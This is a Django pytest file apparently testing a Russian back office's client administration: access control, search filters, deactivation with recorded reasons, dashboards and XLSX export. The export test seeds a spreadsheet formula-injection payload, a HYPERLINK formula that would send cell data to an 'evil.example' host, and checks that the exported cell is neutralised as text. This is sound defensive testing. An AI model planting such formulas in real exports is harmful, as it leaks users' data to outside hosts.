"""Back office «Пользователи» (seed 000): the client list, a client's page, access switching."""

from datetime import datetime

import pytest
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.urls import reverse
from django.utils import timezone

from mprating.accounts import roles, services
from mprating.accounts.models import Client, ClientStatusChange, User
from mprating.accounts.tests.factories import make_client, make_staff
from mprating.core.errors import ApplicationError
from mprating.core.testing import count_queries

pytestmark = pytest.mark.django_db

CHANGELIST = reverse("admin:accounts_client_changelist")


@pytest.fixture
def operator(client):
    user = make_staff(roles.OPERATOR, email="operator@example.ru")
    client.force_login(user)
    return user


def test_client_never_reaches_the_back_office(client):
    account = make_client()
    other = make_client(email="other@example.ru", last_name="Чужой")
    client.force_login(account.user)

    for url in [
        reverse("admin:index"),
        CHANGELIST,
        reverse("admin:accounts_client_change", args=[other.pk]),
    ]:
        response = client.get(url)
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("admin:login"))


def test_staff_without_the_permission_gets_403(client):
    client.force_login(make_staff(email="nobody@example.ru"))

    assert client.get(CHANGELIST).status_code == 403


def test_manager_sees_clients_but_cannot_switch_access(client):
    target = make_client()
    client.force_login(make_staff(roles.MANAGER, email="manager@example.ru"))

    assert client.get(CHANGELIST).status_code == 200
    url = reverse("admin:accounts_client_deactivate", args=[target.pk])
    assert client.post(url, {"reason": "проверка"}).status_code == 403
    assert User.objects.get(pk=target.user_id).is_active


def test_operator_list_shows_clients_with_search_and_filters(client, operator):
    make_client(last_name="Захаров", email="zah@example.ru", phone="+79035550101")
    make_client(last_name="Борисова", email="bor@example.ru")

    page = client.get(CHANGELIST).content.decode()
    assert "Захаров" in page and "Борисова" in page

    by_phone = client.get(CHANGELIST, {"q": "8 (903) 555-01-01"}).content.decode()
    assert "Захаров" in by_phone and "Борисова" not in by_phone

    by_email = client.get(CHANGELIST, {"q": "bor@"}).content.decode()
    assert "Борисова" in by_email and "Захаров" not in by_email


def test_active_filter(client, operator):
    blocked = make_client(last_name="Заблокированный")
    make_client(last_name="Активный", email="active@example.ru")
    services.client_set_active(client_id=blocked.pk, active=False, reason="долг", actor=operator)

    page = client.get(CHANGELIST, {"active": "no"}).content.decode()

    assert "Заблокированный" in page and "Активный" not in page


def test_client_page_shows_registration_data_and_history(client, operator):
    target = make_client(company_name="ООО «Колесо»", inn="7707083893")
    services.client_set_active(
        client_id=target.pk, active=False, reason="Долг 5000", actor=operator
    )

    page = client.get(reverse("admin:accounts_client_change", args=[target.pk])).content.decode()

    for text in [target.user.email, "ООО «Колесо»", "7707083893", "Долг 5000", "Заблокирован"]:
        assert text in page


def test_deactivation_needs_a_reason_and_changes_nothing_without_it(client, operator):
    target = make_client()
    url = reverse("admin:accounts_client_deactivate", args=[target.pk])

    confirm_page = client.get(url)
    response = client.post(url, {"reason": "  "})

    assert "Заблокировать доступ к сервису?" in confirm_page.content.decode()
    assert response.status_code == 200
    assert "Укажите причину" in response.content.decode()
    assert User.objects.get(pk=target.user_id).is_active
    assert not ClientStatusChange.objects.exists()


def test_deactivation_ends_the_clients_running_session_and_is_recorded(client, operator):
    from django.test import Client as BrowserClient

    target = make_client()
    their_browser = BrowserClient()
    their_browser.force_login(target.user)
    assert their_browser.get(reverse("cabinet:profile")).status_code == 200

    response = client.post(
        reverse("admin:accounts_client_deactivate", args=[target.pk]),
        {"reason": "Неоплаченные заказы"},
    )

    assert response.status_code == 302
    again = their_browser.get(reverse("cabinet:profile"))
    assert again.status_code == 302
    assert again["Location"].startswith(reverse("accounts:login"))
    change = ClientStatusChange.objects.get()
    assert (change.is_active, change.comment, change.changed_by) == (
        False,
        "Неоплаченные заказы",
        operator,
    )

    client.post(
        reverse("admin:accounts_client_reactivate", args=[target.pk]), {"reason": "Оплатил"}
    )
    assert User.objects.get(pk=target.user_id).is_active
    assert ClientStatusChange.objects.count() == 2


def test_bulk_deactivation_asks_for_a_reason_then_blocks_all(client, operator):
    first, second = make_client(), make_client()
    selection = {"action": "deactivate_selected", ACTION_CHECKBOX_NAME: [first.pk, second.pk]}

    confirm = client.post(CHANGELIST, selection)
    assert confirm.status_code == 200
    assert User.objects.filter(is_active=False).count() == 0

    done = client.post(CHANGELIST, {**selection, "confirm": "yes", "reason": "Проверка"})

    assert done.status_code == 302
    assert User.objects.filter(is_active=False).count() == 2
    assert ClientStatusChange.objects.filter(comment="Проверка").count() == 2


def test_switching_to_the_same_state_is_refused(operator):
    target = make_client()

    with pytest.raises(ApplicationError) as error:
        services.client_set_active(client_id=target.pk, active=True, reason="x", actor=operator)

    assert error.value.code == "status_unchanged"
    assert not ClientStatusChange.objects.exists()


def test_client_list_query_count_does_not_grow_with_rows(client, operator):
    for _ in range(5):
        make_client()
    five = count_queries(lambda: client.get(CHANGELIST))

    for _ in range(195):
        make_client()
    two_hundred = count_queries(lambda: client.get(CHANGELIST, {"o": "1"}))

    assert five == two_hundred
    assert five <= 12


def test_dashboard_and_navigation_show_only_permitted_sections(client, operator):
    page = client.get(reverse("admin:index")).content.decode()

    assert "Клиенты" in page
    assert "Сотрудники" not in page


def test_selected_clients_export_to_xlsx_without_formulas(client, operator):
    from io import BytesIO

    from openpyxl import load_workbook

    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
    target = make_client(
        last_name=hyperlink,
        first_name="+1+1",
        middle_name="@SUM(1)",
        company_name="-2+3",
    )
    make_client(last_name="Невыбранный")

    response = client.post(CHANGELIST, {"action": "export_xlsx", ACTION_CHECKBOX_NAME: [target.pk]})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    rows = list(sheet.iter_rows())
    assert [cell.value for cell in rows[0][:4]] == ["Фамилия", "Имя", "Отчество", "E-mail"]
    assert len(rows) == 2
    # Every cell shows exactly the client's text, stored as text with Excel's quote prefix:
    # never a formula, not even after the operator edits the cell.
    for cell, text in zip(
        [rows[1][0], rows[1][1], rows[1][2], rows[1][5]],
        [hyperlink, "+1+1", "@SUM(1)", "-2+3"],
        strict=True,
    ):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    # An ordinary text carries no prefix.
    assert (rows[1][3].value, rows[1][3].quotePrefix) == (target.user.email, False)


def test_dashboard_counts_clients(client, operator):
    make_client()
    blocked = make_client()
    services.client_set_active(client_id=blocked.pk, active=False, reason="долг", actor=operator)

    response = client.get(reverse("admin:index"))

    cards = {
        card.title: card.value
        for section in response.context["dashboard_sections"]
        if section["title"] == "Пользователи"
        for card in section["cards"]
    }
    assert cards == {
        "Новых клиентов за 7 дней": 2,
        "Заблокированных клиентов": 1,
        "Запросов на удаление данных": 0,  # issue 12, 152-ФЗ
    }


def test_staff_without_permissions_sees_an_empty_dashboard(client):
    client.force_login(make_staff(email="nobody@example.ru"))

    response = client.get(reverse("admin:index"))

    assert response.context["dashboard_sections"] == []
    assert "Клиенты" not in response.content.decode()


def test_registration_date_filter_takes_typed_dates_and_whole_days(client, operator):
    # given one client registered late on the last day of the range and one the next morning
    inside = make_client(last_name="Февральский", email="feb@example.ru")
    outside = make_client(last_name="Мартовский", email="mar@example.ru")
    moscow = timezone.get_current_timezone()
    Client.objects.filter(pk=inside.pk).update(
        created_at=datetime(2026, 2, 28, 23, 30, tzinfo=moscow)
    )
    Client.objects.filter(pk=outside.pk).update(
        created_at=datetime(2026, 3, 1, 0, 30, tzinfo=moscow)
    )

    # when the range is typed as ДД.ММ.ГГГГ
    page = client.get(
        CHANGELIST, {"created_at_from": "01.02.2026", "created_at_to": "28.02.2026"}
    ).content.decode()
    wrong = client.get(CHANGELIST, {"created_at_from": "31.02.2026"})

    # then only the February client is listed; a date that is not one filters nothing
    assert "Февральский" in page and "Мартовский" not in page
    assert wrong.status_code == 200
    assert {c.pk for c in wrong.context["cl"].result_list} >= {inside.pk, outside.pk}
    assert "Введите правильную дату." in wrong.content.decode()
